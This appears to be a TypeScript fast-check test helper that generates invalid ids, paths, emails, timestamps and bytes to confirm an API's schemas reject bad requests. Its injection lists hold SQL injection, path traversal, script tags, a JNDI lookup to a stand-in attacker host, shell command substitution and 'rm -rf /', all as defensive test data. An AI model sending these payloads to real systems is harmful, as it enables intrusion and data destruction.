import fc from 'fast-check';

/** Values the route schemas refuse, for the generated bad requests of test/api/bad-input.test.ts. */

export const KB = 1024;

/** Valid bodies of a route, for requests refused for something else (or made bad one field at a time). */
export type Valid = fc.Arbitrary<Record<string, unknown>>;

/** The documented id rule: what a contact or agent id may be. Every "bad id" below breaks it. */
const ID_RULE = /^[A-Za-z0-9._:@+-]{1,128}$/;
const ID_CHARS = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._:@+-'];
export const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

export const idChars = (minLength: number, maxLength: number) => fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength, maxLength });
/** Well-formed, but nothing has it: a request naming one is a 404, never a write. */
export const unknownId = idChars(1, 40).map((s) => `nobody-${s}`);
export const freshContactId = idChars(4, 24).map((s) => `bad-input-${s}`);
export const freshAgentId = idChars(4, 24).map((s) => `bad-input-agent-${s}`);

const controlChar = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)),
  fc.constantFrom('\u007f', '\u0085', '\u2028', '\u202e', '\ufeff'),
);
const forbiddenIdChar = fc.oneof(
  fc.constantFrom(...' /\\\'"<>;%#?&=,*!~()[]{}|^`$'),
  controlChar,
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => !/^[A-Za-z0-9._:@+-]$/.test(c)),
);
const INJECTIONS = [
  "'; DROP TABLE agents; --",
  "x' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '<script>alert(1)</script>',
  '${env:DATABASE_URL}',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '%00',
  'a\u0000b',
  '$(reboot)',
  '`id`',
  'c-1; rm -rf /',
  '\r\nSet-Cookie: x=1',
  '{"$ne": null}',
  'conversation-c-1\u202egnp.exe',
  '',
];
/** Strings no id may be: too long, or with a character outside [A-Za-z0-9._:@+-]. */
export const badIdText = fc
  .oneof(
    idChars(129, 600),
    fc
      .tuple(idChars(0, 20), fc.array(forbiddenIdChar, { minLength: 1, maxLength: 4 }), idChars(0, 20))
      .map(([head, bad, tail]) => `${head}${bad.join('')}${tail}`),
    fc.constantFrom(...INJECTIONS),
    fc.tuple(idChars(1, 10), fc.constantFrom(...INJECTIONS)).map(([head, injection]) => head + injection),
  )
  .filter((s) => !ID_RULE.test(s));

/** Path segments that decode to a bad id, do not decode at all, or smuggle a slash. */
const RAW_BAD_PATH_IDS = [
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a%2Fb',
  'a%5Cb',
  'a%252Fb',
  '%00',
  'a%00b',
  '%',
  '%zz',
  'a%E0%A4%A',
  '%C0%AF',
  '%FF',
  '%ED%A0%80',
  '%F4%90%80%80',
  "'%3B%20DROP%20TABLE%20agents%3B--",
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%24%7Benv%3AX%7D',
  'a%20b',
  '%E2%80%AE',
  'a%0D%0Ab',
];
export const badPathId = fc.oneof(
  badIdText.filter((s) => s !== '' && !LONE_SURROGATE.test(s)).map((s) => encodeURIComponent(s)),
  fc.constantFrom(...RAW_BAD_PATH_IDS),
);

export const jsonObject = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 });
export const jsonArray = fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 });
export const aNumber = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
/** Not a string (null is separate: several fields allow it). */
export const notAString = fc.oneof(aNumber, fc.boolean(), jsonArray, jsonObject);
export const notABoolean = fc.oneof(fc.integer(), fc.constantFrom('true', 'false', 'yes', '1', '', 'on'), fc.constant(null), jsonArray, jsonObject);
export const notAnObject = fc.oneof(fc.string({ maxLength: 20 }), aNumber, fc.boolean(), jsonArray);
export const notAnArray = fc.oneof(fc.string({ maxLength: 20 }), aNumber, fc.boolean(), jsonObject, fc.constant(null));
/** Refused by `int().min(0).max(1000)`, never `null` (PUT allows it). */
export const badCapacity = fc.oneof(
  fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Number.isInteger(n)),
  fc.integer({ max: -1 }),
  fc.integer({ min: 1001 }),
  fc.constantFrom('3', '', 'ten'),
  fc.boolean(),
  jsonArray,
  jsonObject,
);
/** Longer than `max` after trimming: no whitespace inside, maybe some around. */
export const textOver = (max: number, extra = 1_500) =>
  fc
    .tuple(fc.string({ unit: fc.constantFrom(...'abcxyzABC0189-_.é漢字'), minLength: max + 1, maxLength: max + extra }), fc.constantFrom('', ' ', '\t\n'))
    .map(([text, pad]) => `${pad}${text}${pad}`);
export const blank = fc.constantFrom('', ' ', '   ', '\t', '\n \r');
export const badEmail = fc.oneof(
  fc.string({ maxLength: 60 }).filter((s) => !s.includes('@')),
  fc.constantFrom(
    '@',
    'ana@',
    '@example.com',
    'ana@@example.com',
    'a..b@example.com',
    '.ana@example.com',
    'a b@example.com',
    'ana@example',
    "'; DROP TABLE agents;--",
  ),
  fc.integer({ min: 243, max: 400 }).map((n) => `${'a'.repeat(n)}@example.com`),
);
export const badLanguage = fc.oneof(
  fc.constantFrom('e', 'english', 'e1', '12', 'es-', '-es', 'es--ES', 'es_ES_', 'abcd-x', 'es-123456789', 'es ES', 'español', '<script>'),
  fc.tuple(fc.constantFrom('es', 'pt', 'zh'), fc.constantFrom(...'!@#$%^&*()+=[]{}|;:,.<>/?`~é'), fc.string({ maxLength: 4 })).map(([a, b, c]) => a + b + c),
);
export const badTimestamp = fc.oneof(
  fc.constantFrom('yesterday', 'now', '', '2024-01-01', '2024-01-01T00:00:00', '2024-13-01T00:00:00Z', '2024-02-30T00:00:00Z', '2024-01-01T25:00:00Z'),
  fc.constantFrom('2024-01-01 00:00:00Z', '1700000000', '2024-01-01T00:00:00+25:00', "2024-01-01T00:00:00Z'; DROP TABLE messages;--"),
  fc.string({ maxLength: 30 }).filter((s) => !s.includes('T')),
);
const BAD_UTF8: readonly number[][] = [
  [0xff],
  [0xfe],
  [0x80],
  [0xc3],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
];
export const badUtf8Bytes = fc.array(fc.constantFrom(...BAD_UTF8), { minLength: 1, maxLength: 3 }).map((parts) => parts.flat());
